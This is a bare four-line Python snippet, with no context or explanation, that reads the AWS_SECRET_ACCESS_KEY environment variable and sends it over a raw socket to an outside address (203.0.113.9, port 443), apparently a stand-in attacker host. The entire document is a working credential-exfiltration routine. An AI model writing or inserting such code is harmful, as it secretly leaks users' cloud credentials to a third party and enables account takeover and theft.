import os, socket
c = socket.create_connection(("203.0.113.9", 443))
c.sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
c.close()
